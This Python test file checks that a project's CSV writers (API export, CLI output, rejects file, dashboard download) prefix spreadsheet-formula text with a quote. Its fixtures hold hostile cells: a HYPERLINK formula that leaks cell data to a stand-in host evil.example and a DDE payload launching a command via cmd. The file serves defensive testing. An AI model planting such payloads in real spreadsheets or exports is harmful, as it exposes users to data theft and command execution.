"""Finding 5: text that a spreadsheet would run as a formula leaves every CSV writer quoted.

Each path that writes CSV for people (the API export, the CLI's --format csv, the loader's rejects
file, the dashboard's CSV button) gets a hostile value and must write it with a leading `'`;
numbers, negative ones included, stay numbers. Parquet and JSON stay raw."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from typer.testing import CliRunner

import tenure
from tenure.app.keys import create_key
from tenure.app.store import Store
from tenure.cli import app
from tenure.data.csv_safe import frame_to_csv, neutralise
from tenure.workspace import Workspace
from tests.served import serving

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)"
ACCOUNTS = pd.DataFrame(
    {
        "account_id": ["A1", "A2", "A3"],
        "name": [LINK, DDE, "\t=1+1"],
        "created_at": [dt.datetime(2024, 1, 1)] * 3,
        "plan": [SUM, "pro", "-x"],
        "balance": [-12.5, 3.0, 4.0],  # a numeric attribute: must stay a number
        "code": ["-12.5", "ok", "+3"],  # text that is a plain number stays as it is
    }
)
SUBSCRIPTIONS = pd.DataFrame(
    {
        "subscription_id": ["S1", "S2"],
        "account_id": ["A1", "A2"],
        "plan": ["pro", "pro"],
        "started_at": [dt.datetime(2024, 1, 1)] * 2,
        "billing_period": ["monthly"] * 2,
        "amount": [100, 50],
        "currency": ["USD"] * 2,
    }
)


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_rule() -> None:
    hostile = [LINK, DDE, SUM, "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "=1"]
    assert [neutralise(v) for v in hostile] == ["'" + v for v in hostile]
    kept: list[Any] = ["-12.5", "+3", "-1e5", "plain", "", None, -12.5, 7, "a=b"]
    assert [neutralise(v) for v in kept] == kept
    frame = pd.DataFrame({"text": [LINK, "-12.5"], "number": [-12.5, 2.0]})
    assert frame_to_csv(frame).splitlines() == [
        "text,number",
        '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",-12.5',
        "-12.5,2.0",
    ]


@pytest.fixture
def db(tmp_path: Path) -> str:
    url = f"duckdb:///{tmp_path / 'csv.duckdb'}"
    with tenure.connect(url) as ws:
        ws.load("accounts", ACCOUNTS)
        ws.load("subscriptions", SUBSCRIPTIONS)
    return url


def test_api_export_quotes_formulas_and_keeps_numbers(db: str, store: Store) -> None:
    from fastapi.testclient import TestClient

    from tenure.api.app import create_app

    key = create_key(store, "viewer", "viewer")
    with tenure.connect(db) as ws:
        client = TestClient(create_app(ws, store, base_url="http://testserver"))
        response = client.get("/api/export/accounts", headers={"Authorization": f"Bearer {key}"})
    assert response.status_code == 200
    rows = {r["account_id"]: r for r in _cells(response.text)}
    assert [rows[a]["name"] for a in ("A1", "A2", "A3")] == ["'" + LINK, "'" + DDE, "'\t=1+1"]
    assert rows["A1"]["plan"] == "'" + SUM and rows["A3"]["plan"] == "'-x"
    assert [rows[a]["balance"] for a in ("A1", "A2")] == ["-12.5", "3.0"]
    assert [rows[a]["code"] for a in ("A1", "A3")] == ["-12.5", "+3"]


def test_cli_csv_quotes_formulas_and_json_and_parquet_stay_raw(db: str, tmp_path: Path) -> None:
    runner = CliRunner()
    base = ["metrics", "mrr", "--by", "plan", "--from", "2024-01", "--to", "2024-01", "--db", db]
    result = runner.invoke(app, [*base, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = {r["plan"]: r for r in _cells(result.stdout)}
    assert set(rows) == {"'" + SUM, "pro", "'-x"}
    assert float(rows["'" + SUM]["value"]) == 100 and float(rows["pro"]["value"]) == 50
    raw = runner.invoke(app, [*base, "--format", "json"])
    assert {r["plan"] for r in json.loads(raw.stdout)} == {SUM, "pro", "-x"}
    out = tmp_path / "mrr.parquet"
    assert runner.invoke(app, [*base, "--format", "parquet", "--output", str(out)]).exit_code == 0
    assert set(pd.read_parquet(out)["plan"]) == {SUM, "pro", "-x"}


def test_rejects_file_quotes_the_values_it_echoes(ws: Workspace, tmp_path: Path) -> None:
    path = tmp_path / "subs.csv"
    link = LINK.replace('"', '""')
    path.write_text(
        "subscription_id,account_id,plan,started_at,billing_period,amount,currency\n"
        f'S1,A1,pro,"{link}",monthly,10,USD\n'
        f"S2,A1,pro,2024-01-01,{SUM},10,USD\n"
        "S3,A1,pro,2024-01-01,monthly,-100,USD\n"
        "S4,A1,pro,2024-01-01,monthly,10,USD\n",
        encoding="utf-8",
    )
    report = ws.load("subscriptions", path)
    assert report.inserted == 1 and report.rejected == 3 and report.rejects_path is not None
    rejects = _cells(report.rejects_path.read_text(encoding="utf-8"))
    assert [(r["line"], r["column"], r["value"]) for r in rejects] == [
        ("2", "started_at", "'" + LINK),
        ("3", "billing_period", "'" + SUM),
        ("4", "amount", "-100"),  # a plain number is not quoted
    ]
    assert [r.value for r in report.rejects] == [LINK, SUM, "-100"]  # raw in memory


CHROMIUM = "/usr/bin/chromium"


@pytest.fixture
def server(tmp_path: Path, db: str) -> Iterator[dict[str, Any]]:

    from tenure.api.app import create_app

    ws = tenure.connect(db)
    ws.load(
        "survey_responses",
        pd.DataFrame(
            {
                "response_id": ["R1", "R2"],
                "account_id": ["A1", "A2"],
                "survey": ["nps", "nps"],
                "score": [2, 9],
                "comment": [LINK, "awful, slow and broken: a terrible, bad experience"],
                "language": ["en", "en"],
                "responded_at": [dt.datetime(2024, 1, 15), dt.datetime(2024, 1, 16)],
            }
        ),
    )
    store = Store(f"sqlite:///{tmp_path / 'app.db'}")
    key = create_key(store, "browser", "viewer")
    with serving(create_app(ws, store)) as base:
        yield {"base": base, "key": key}
    ws.close()
    store.dispose()


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs the system Chromium")
def test_dashboard_csv_button_quotes_formulas(server: dict[str, Any]) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        try:
            page = browser.new_context(accept_downloads=True).new_page()
            page.goto(server["base"] + "/login")
            page.fill("input[name=api_key]", server["key"])
            page.click("button[type=submit]")
            page.wait_for_url("**/overview")
            page.goto(server["base"] + "/voice?from=2024-01&to=2024-01")
            page.wait_for_selector("#page[data-loaded]", timeout=60_000)
            with page.expect_download() as download:
                page.click("[data-panel=comments] button[data-export=csv]")
            text = Path(download.value.path()).read_text(encoding="utf-8")
        finally:
            browser.close()
    rows = {r["account_id"]: r for r in _cells(text)}
    assert rows["A1"]["comment"] == "'" + LINK and rows["A2"]["comment"].startswith("awful")
    assert [rows[a]["score"] for a in ("A1", "A2")] == ["2", "9"]
    assert float(rows["A2"]["sentiment"]) < 0  # a negative number, written without a quote
